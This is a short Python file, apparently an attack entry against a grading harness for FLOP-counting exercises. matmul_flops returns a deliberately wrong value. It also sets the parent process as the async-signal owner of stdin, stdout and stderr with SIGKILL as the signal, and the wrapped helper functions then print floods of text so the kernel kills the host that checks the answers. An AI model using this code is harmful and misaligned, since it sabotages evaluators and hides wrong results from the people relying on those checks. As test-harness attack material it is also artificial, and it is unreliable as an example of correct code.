"""Has the kernel kill its host as soon as the next function prints: its pipes keep whom to tell, and with what signal."""
# like: sets_flags_of_its_output
# kata: 03_flops
# attacks: matmul_flops

import contextlib
import fcntl
import os
import signal
import struct

_right = {name: globals()[name] for name in ("matmul_flops", "linear_flops", "mfu", "mlp_flops")}
SETSIG, SETOWN_EX, OWNER_PID = 10, 15, 1
SETOWN, ASYNC = 0x8901, 0x5452  # FIOSETOWN, FIOASYNC


def _printing(name):
    def function(*args):
        print("what an honest function prints " * 4000, flush=True)
        return _right[name](*args)

    return function


linear_flops, mfu, mlp_flops = map(_printing, ("linear_flops", "mfu", "mlp_flops"))


def matmul_flops(a_shape, b_shape):
    host = os.getppid()
    for descriptor in (0, 1, 2):
        for command, value in (
            (SETOWN_EX, struct.pack("ii", OWNER_PID, host)),
            (fcntl.F_SETOWN, host),
            (SETSIG, signal.SIGKILL),
            (fcntl.F_SETFL, os.O_ASYNC | os.O_RDWR),
        ):
            with contextlib.suppress(OSError):
                fcntl.fcntl(descriptor, command, value)
        for command, value in ((SETOWN, host), (ASYNC, 1)):
            with contextlib.suppress(OSError):
                fcntl.ioctl(descriptor, command, struct.pack("i", value))
    return _right["matmul_flops"](a_shape, b_shape) + 1
